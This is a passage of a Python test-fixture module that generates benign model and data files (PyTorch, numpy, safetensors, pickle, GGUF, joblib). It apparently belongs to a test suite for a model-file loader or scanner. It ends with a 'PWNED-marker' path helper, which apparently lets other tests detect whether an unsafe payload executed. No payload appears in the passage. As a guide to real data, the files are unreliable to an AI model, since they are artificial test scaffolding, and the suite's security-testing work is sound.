        "tensor_kinds.pt",
        {
            "param": torch.nn.Parameter(torch.ones(2, 2)),
            "view": base[2:5],
            "shared": [base, base.view(3, 4)],
            "channels_last": torch.rand(1, 3, 4, 4).to(memory_format=torch.channels_last),
            "sparse": torch.eye(3).to_sparse(),
            "scalar": torch.tensor(3.0),
            "empty": torch.empty(0, 4),
            "noncontig": torch.rand(4, 4).t(),
        },
    )
    save("quantized.pt", {"q": torch.quantize_per_tensor(torch.rand(4), 0.1, 0, torch.quint8)})
    save("protocol5.pt", net.state_dict(), pickle_protocol=5)
    np.save(folder / "array.npy", np.arange(20, dtype=np.float32).reshape(4, 5))
    np.save(folder / "structured.npy", np.zeros(3, dtype=[("a", "<f4"), ("b", "<i8")]))
    np.savez(folder / "arrays.npz", x=np.ones((3, 2)), y=np.arange(3))
    np.savez_compressed(folder / "arrays_compressed.npz", x=np.ones((30, 2)), y=np.arange(30))
    out += [folder / n for n in ("array.npy", "structured.npy", "arrays.npz", "arrays_compressed.npz")]
    save_file(
        {k: v.detach().contiguous() for k, v in net.state_dict().items()}, str(folder / "model.safetensors")
    )
    out.append(folder / "model.safetensors")
    (folder / "plain.pkl").write_bytes(
        pickle.dumps({"weights": [1.0, 2.0], "names": ("a", "b"), "n": 3}, protocol=2)
    )
    out.append(folder / "plain.pkl")
    out.append(
        gguf_file(
            folder / "tiny.gguf", "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}{% endfor %}"
        )
    )
    (folder / "plain_gz.pkl.gz").write_bytes(gzip.compress(pickle.dumps({"a": list(range(10))})))
    out.append(folder / "plain_gz.pkl.gz")
    try:
        import joblib

        joblib.dump({"w": np.arange(100.0), "meta": {"k": 1}}, folder / "arrays.joblib")
        joblib.dump({"w": np.arange(100.0)}, folder / "arrays_z.joblib", compress=3)
        joblib.dump({"w": np.arange(100.0)}, folder / "arrays_lz4.joblib", compress="lz4")
        joblib.dump({"w": np.arange(100.0)}, folder / "arrays_xz.joblib", compress="xz")
        out += [folder / f"arrays{s}.joblib" for s in ("", "_z", "_lz4", "_xz")]
    except ImportError:  # pragma: no cover - joblib ships with scikit-learn
        pass
    return out


def marker_in(folder: Path) -> Path:
    return folder / "PWNED-marker"
